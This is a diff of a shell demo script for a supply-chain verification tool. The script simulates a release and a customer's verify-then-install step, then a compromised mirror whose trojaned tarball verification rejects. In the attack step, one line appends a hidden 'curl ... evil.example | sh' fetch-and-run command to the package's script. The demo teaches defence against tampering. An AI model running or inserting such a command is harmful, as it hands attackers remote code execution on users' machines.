@@ -54,14 +54,14 @@ cp "$here/layout.yaml" vendor/
 	show toto sign --key sam root.layout
 )
 
-# --- 2. release 1.2.0: CI tests, rita packages (links as in-toto Statements) --
-step "ci: test (toto run --attest: the link is an in-toto Statement v1 in DSSE)"
+# --- 2. release 1.2.0: CI tests, rita packages ------------------------------
+step "ci: test"
 mkdir -p release
 cp -R "$here/app" "$here/tests" release/
-(cd release && show toto run --attest --step test --key ../vendor/ci -m app -m tests -p test-results.txt -- sh tests/greet_test.sh test-results.txt)
+(cd release && show toto run --step test --key ../vendor/ci -m app -m tests -p test-results.txt -- sh tests/greet_test.sh test-results.txt)
 
 step "rita: package"
-(cd release && show toto run --attest --step package --key ../vendor/rita -m app -p "app-$VERSION.tar.gz" -- tar czf "app-$VERSION.tar.gz" app)
+(cd release && show toto run --step package --key ../vendor/rita -m app -p "app-$VERSION.tar.gz" -- tar czf "app-$VERSION.tar.gz" app)
 
 # The vendor's download site: the tarball and, beside it, its supply-chain
 # metadata (the layout and the links).
@@ -77,32 +77,34 @@ download() { # download DIR: what a customer fetches from the site (or a mirror)
 	cp site/"app-$VERSION.intoto"/*.link "$1/links/"
 	cp site/sam.pub "$1/keys/"
 }
-verify() { # verify DIR; the JSON result and HTML report go beside DIR, not in it
-	(
-		cd "$1"
-		echo "\$ toto verify --layout root.layout --layout-key keys/sam.pub --links links --param VERSION=$VERSION --json --report ../$1.report.html >../$1.verify.json"
-		toto verify --layout root.layout --layout-key keys/sam.pub --links links \
-			--param VERSION="$VERSION" --json --report "../$1.report.html" >"../$1.verify.json"
-	)
+# Reports go beside the verified directory, not in it: the layout's unpack
+# inspection sees every file there and allows only the download.
+verify() { # verify DIR [FLAG...]; the command line is shown on stderr, so stdout stays the report
+	local dir=$1
+	shift
+	set -- toto verify --layout root.layout --layout-key keys/sam.pub --links links --param VERSION="$VERSION" "$@"
+	printf '$ %s\n' "$*" >&2
+	(cd "$dir" && "$@")
 }
 
 step "customer: download app-$VERSION.tar.gz, its layout and links; pin sam's key"
 download customer
 (cd customer && find . -type f | sort | sed 's|^\./|  |')
 
-step "customer: verify, then install"
-if verify customer; then
-	echo "VERDICT: app-$VERSION.tar.gz PASSED verification (result: customer.verify.json, report: customer.report.html)"
+step "customer: verify, then install (as an install script would: JSON result, exit status decides)"
+if verify customer --json >customer.verify.json; then
+	echo "# customer.verify.json says:" && grep -m1 '"passed"' customer.verify.json
+	echo "VERDICT: app-$VERSION.tar.gz PASSED verification"
 else
-	echo "VERDICT: the genuine package FAILED verification (unexpected)" >&2
+	echo "VERDICT: the genuine package FAILED verification (unexpected); see customer.verify.json" >&2
 	exit 1
 fi
 mkdir -p opt
-tar xzf customer/"app-$VERSION.tar.gz" -C opt
+show tar xzf customer/"app-$VERSION.tar.gz" -C opt
 show sh opt/app/bin/greet customer
 
 # --- 4. a compromised mirror serves a trojaned tarball ------------------------
-step "attacker: a mirror serves app-$VERSION.tar.gz with a trojaned bin/greet"
+step "attacker: a mirror serves app-$VERSION.tar.gz with a trojaned app/bin/greet"
 mkdir evil
 tar xzf site/"app-$VERSION.tar.gz" -C evil
 printf 'curl -s https://evil.example/x | sh 2>/dev/null &\n' >>evil/app/bin/greet
@@ -110,8 +112,8 @@ download tampered
 tar czf tampered/"app-$VERSION.tar.gz" -C evil app
 echo "appended a line to app/bin/greet and re-packed app-$VERSION.tar.gz"
 
-step "customer: verify the mirror's download"
-if verify tampered; then
+step "customer: verify the mirror's download (text report, and an HTML one)"
+if verify tampered --report ../tampered.report.html; then
 	echo "VERDICT: the trojaned package PASSED verification: the attack was NOT caught" >&2
 	exit 1
 else
@@ -121,4 +123,5 @@ else
 		exit 1
 	fi
 	echo "VERDICT: the trojaned app-$VERSION.tar.gz was REJECTED (exit $code) and not installed: the attack was caught"
+	echo "(HTML report: tampered.report.html in the work directory)"
 fi
